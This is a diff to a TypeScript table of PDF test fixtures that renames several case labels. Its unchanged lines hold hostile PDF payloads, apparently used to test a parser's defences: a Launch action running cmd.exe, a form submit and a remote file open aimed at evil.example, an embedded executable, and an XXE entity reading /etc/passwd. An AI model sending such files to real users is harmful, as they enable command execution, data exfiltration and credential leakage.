@@ -31,7 +31,7 @@ export const INTERACTIVE: Record<string, () => Uint8Array> = {
         11: { dict: '/Type /XObject /Subtype /Form /BBox [0 0 200 100]', data: '0 0 1 rg 0 0 200 100 re f' },
       },
     }),
-  'a field without a look': () =>
+  'a field without an appearance': () =>
     pdfOfPage(HELLO, {
       catalog:
         '/AcroForm << /Fields [10 0 R] /NeedAppearances true /DA (/F 20 Tf 0 g) /DR << /Font << /F 5 0 R >> >> >>',
@@ -40,16 +40,16 @@ export const INTERACTIVE: Record<string, () => Uint8Array> = {
         10: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (FILLED IN) /DA (/F 20 Tf 0 g) /Rect [100 100 300 140] /F 4 /P 3 0 R >>',
       },
     }),
-  'a note that draws itself': annotated('10 0 R', {
+  'an annotation that draws itself': annotated('10 0 R', {
     10: '<< /Type /Annot /Subtype /Stamp /Rect [0 0 300 300] /AP << /N 11 0 R >> >>',
     11: form('/X Do', '/Resources << /XObject << /X 11 0 R >> >>'),
   }),
-  '100,000 notes': () =>
+  '100,000 annotations': () =>
     pdfOfPage(HELLO, {
       page: `/Annots [${'10 0 R '.repeat(100_000)}]`,
       objects: { 10: '<< /Type /Annot /Subtype /Square /Rect [0 0 300 300] /C [1 0 0] >>' },
     }),
-  'fields in a circle': withCatalog('/AcroForm << /Fields [10 0 R] >>', {
+  'fields in a cycle': withCatalog('/AcroForm << /Fields [10 0 R] >>', {
     10: '<< /T (a) /Kids [11 0 R] >>',
     11: '<< /T (b) /Parent 10 0 R /Kids [10 0 R] >>',
   }),
@@ -66,7 +66,7 @@ export const INTERACTIVE: Record<string, () => Uint8Array> = {
   'a program to launch': withCatalog('/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
   'a form to send': withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.example/) >>'),
   'another file to open': withCatalog('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'),
-  'a file within': withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >> /AF [10 0 R]', {
+  'an embedded file': withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >> /AF [10 0 R]', {
     10: '<< /Type /Filespec /F (a.exe) /UF (a.exe) /AFRelationship /Data /EF << /F 11 0 R >> >>',
     11: { dict: '/Type /EmbeddedFile', data: 'MZ\x90\0' },
   }),
@@ -80,13 +80,13 @@ export const INTERACTIVE: Record<string, () => Uint8Array> = {
       data: '<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;</template>',
     },
   }),
-  'layers that are hidden': () =>
+  'hidden layers': () =>
     pdfOfPage(`/OC /L BDC ${HELLO} EMC`, {
       catalog: '/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] >> >>',
       resources: '/Properties << /L 10 0 R >>',
       objects: { 10: '<< /Type /OCG /Name (hidden) >>' },
     }),
-  'an outline in a circle': withCatalog('/Outlines 10 0 R', {
+  'an outline in a cycle': withCatalog('/Outlines 10 0 R', {
     10: '<< /First 11 0 R /Last 11 0 R /Count 1 >>',
     11: '<< /Title (a) /Parent 10 0 R /Next 11 0 R /First 10 0 R >>',
   }),
